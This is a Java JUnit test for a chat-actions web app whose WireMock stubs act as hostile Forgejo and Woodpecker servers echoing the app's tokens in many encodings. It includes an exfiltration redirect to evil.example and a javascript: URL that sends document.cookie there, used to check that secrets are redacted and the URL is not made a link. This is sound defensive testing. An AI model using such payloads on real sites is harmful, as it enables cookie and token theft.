package dev.chatactions.app.http;

import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static com.github.tomakehurst.wiremock.client.WireMock.get;
import static com.github.tomakehurst.wiremock.client.WireMock.okJson;
import static com.github.tomakehurst.wiremock.client.WireMock.post;
import static com.github.tomakehurst.wiremock.client.WireMock.urlPathEqualTo;
import static org.assertj.core.api.Assertions.assertThat;

import com.github.tomakehurst.wiremock.junit5.WireMockExtension;
import dev.chatactions.app.http.SignInByHand.SignedIn;
import io.helidon.webserver.WebServer;
import java.io.IOException;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;

/**
 * The production wiring against a Forgejo and a Woodpecker that know every secret we hold and send
 * each one back in every form (plain, percent-encoded, base64) and every place (a redirect's
 * Location, headers, bodies, error text, a {@code javascript:} URL): none may reach an HTTP answer
 * (JSON or HTMX), the history, or a log line, and no such URL may become a link.
 */
class HostileUpstreamTest {

    private static final String FORGE_TOKEN = "forge+tok/en=hostile-0f1e2d";
    private static final String CI_TOKEN = "woodpecker/token+hostile-4b5a";
    private static final String CLIENT_SECRET = "oauth-client=secret+hostile-8c9d";
    private static final String FORWARD_SECRET = "forward/auth+secret-hostile-77";
    private static final String ACCESS_TOKEN = "oauth-access-token-hostile-aabb";
    /** The access token a sign-in gets is not among them: it is dropped once the sign-in is done. */
    private static final List<String> SECRETS = List.of(FORGE_TOKEN, CI_TOKEN, CLIENT_SECRET, FORWARD_SECRET);
    private static final String CONVERSATION = "badc0ffee000";

    @RegisterExtension
    static WireMockExtension forge = LiveStandIns.forge();

    @RegisterExtension
    static WireMockExtension woodpecker = LiveStandIns.woodpecker();

    @TempDir
    Path historyDir;

    private final LiveStandIns.LogCapture logs = new LiveStandIns.LogCapture();
    private final LiveStandIns.RecordingClient client = new LiveStandIns.RecordingClient();
    private WebServer server;
    private URI base;
    private SignedIn alice;

    /** Each secret in every form a hostile upstream could send it back in. */
    private static String echoes() {
        StringBuilder all = new StringBuilder();
        for (String secret : SECRETS) {
            String encoded = URLEncoder.encode(secret, StandardCharsets.UTF_8);
            all.append(secret).append(' ').append(encoded).append(' ').append(encoded.toLowerCase(java.util.Locale.ROOT).replace(
                    secret.toLowerCase(java.util.Locale.ROOT), secret)).append(' ')
                    .append(Base64.getEncoder().encodeToString(("user:" + secret).getBytes(StandardCharsets.UTF_8))).append(' ')
                    .append(Base64.getUrlEncoder().encodeToString(secret.getBytes(StandardCharsets.UTF_8))).append(' ');
        }
        return all.toString().strip();
    }

    /** The same, fit for a URL query. */
    private static String echoesInQuery() {
        return URLEncoder.encode(echoes(), StandardCharsets.UTF_8);
    }

    @BeforeEach
    void start() throws Exception {
        LiveStandIns.stubSignIn(forge, ACCESS_TOKEN);
        forge.stubFor(get(urlPathEqualTo("/api/v1/repos/factory/app/labels")).willReturn(okJson("[]").withHeader("X-Total-Count", "0")));
        forge.stubFor(get(urlPathEqualTo("/api/v1/orgs/factory/labels")).willReturn(okJson("[]").withHeader("X-Total-Count", "0")));
        base = URI.create("http://127.0.0.1:" + TestServer.freePort());
        Map<String, String> env = LiveStandIns.environment(forge, FORGE_TOKEN, woodpecker, CI_TOKEN, CLIENT_SECRET, base, historyDir);
        env.put("FORWARD_AUTH_SECRET", FORWARD_SECRET);
        server = Main.run(env);
        alice = SignInByHand.viaForge(client.client, base);
    }

    @AfterEach
    void stop() {
        logs.close();
        if (server != null) {
            server.stop();
        }
    }

    private HttpResponse<String> click(String type, String payload, boolean htmx) throws IOException, InterruptedException {
        HttpRequest.Builder request = HttpRequest.newBuilder(base.resolve("/chat/action/" + type + "?conversation=" + CONVERSATION))
                .header("Cookie", alice.cookie()).header("X-CSRF-Token", alice.csrfToken()).header("Origin", base.toString())
                .header("Content-Type", "application/json")
                .POST(HttpRequest.BodyPublishers.ofString(payload));
        if (htmx) {
            request.header("HX-Request", "true");
        }
        return client.send(request.build());
    }

    @Test
    void no_secret_comes_back_from_a_redirect_an_error_or_a_created_object_and_no_hostile_url_becomes_a_link() throws Exception {
        // issue-create: a redirect with every secret in its Location and headers, and in its body.
        forge.stubFor(post(urlPathEqualTo("/api/v1/repos/factory/app/issues")).willReturn(aResponse().withStatus(302)
                .withHeader("Location", "https://evil.example/steal?all=" + echoesInQuery())
                .withHeader("X-Echo", echoes())
                .withBody(echoes())));
        // pr-create: a 422 whose message and body carry every secret.
        forge.stubFor(post(urlPathEqualTo("/api/v1/repos/factory/app/pulls")).willReturn(aResponse().withStatus(422)
                .withHeader("Content-Type", "application/json")
                .withBody("{\"message\":\"bad: " + echoes() + "\",\"url\":\"" + echoes() + "\"}")));
        // ci-run: created, but every string it answers (status, branch...) carries secrets.
        woodpecker.stubFor(post(urlPathEqualTo("/api/repos/7/pipelines")).willReturn(okJson(
                "{\"id\":301,\"number\":42,\"status\":\"" + echoes() + "\",\"branch\":\"" + echoes() + "\",\"event\":\"manual\"}")));

        List<Integer> statuses = new ArrayList<>();
        for (boolean htmx : List.of(false, true)) {
            String suffix = htmx ? " (htmx)" : "";
            statuses.add(click("issue-create", "{\"title\":\"Redirected" + suffix + "\"}", htmx).statusCode());
            statuses.add(click("pr-create", "{\"head\":\"fix/x\",\"base\":\"main\",\"title\":\"Refused" + suffix + "\"}", htmx)
                    .statusCode());
            statuses.add(click("ci-run", "{\"branch\":\"fix/" + (htmx ? "b" : "a") + "\"}", htmx).statusCode());
        }

        assertThat(statuses).containsExactly(502, 502, 200, 502, 502, 200);
        assertThat(client.answers()).contains("[hidden]", "redirect (302 to https://evil.example/steal?all=[hidden]");
        assertNoSecretIn("answers", client.answers());
        assertNoSecretIn("history", LiveStandIns.allFiles(historyDir));
        assertNoSecretIn("logs", logs.text());
    }

    @Test
    void a_javascript_url_for_a_created_issue_is_shown_as_text_and_kept_as_the_upstream_said_it() throws Exception {
        forge.stubFor(post(urlPathEqualTo("/api/v1/repos/factory/app/issues")).willReturn(aResponse().withStatus(201)
                .withHeader("Content-Type", "application/json")
                .withBody("{\"id\":101,\"number\":12,\"html_url\":\"javascript:fetch('//evil.example/'+document.cookie)//"
                        + FORGE_TOKEN + "\",\"state\":\"open\"}")));

        HttpResponse<String> fragment = click("issue-create", "{\"title\":\"Linked\"}", true);

        assertThat(fragment.statusCode()).isEqualTo(200);
        assertThat(fragment.body()).contains("Issue #12 <span class=\"not-a-link\">(javascript:fetch(")
                .doesNotContain("href").doesNotContain(FORGE_TOKEN);
        assertThat(LiveStandIns.allFiles(historyDir)).contains("\"url\":\"javascript:fetch(").contains("[hidden]");
        assertNoSecretIn("answers", client.answers());
    }

    private static void assertNoSecretIn(String where, String text) {
        for (String secret : SECRETS) {
            String encoded = URLEncoder.encode(secret, StandardCharsets.UTF_8);
            assertThat(text).as(where + " must not hold " + secret + " in any form")
                    .doesNotContain(secret)
                    .doesNotContain(encoded)
                    .doesNotContainIgnoringCase(encoded)
                    .doesNotContainIgnoringCase(URLEncoder.encode(encoded, StandardCharsets.UTF_8))
                    .doesNotContain(Base64.getEncoder().encodeToString(("user:" + secret).getBytes(StandardCharsets.UTF_8)))
                    .doesNotContain(Base64.getUrlEncoder().encodeToString(secret.getBytes(StandardCharsets.UTF_8)).substring(4, 24));
        }
    }

}
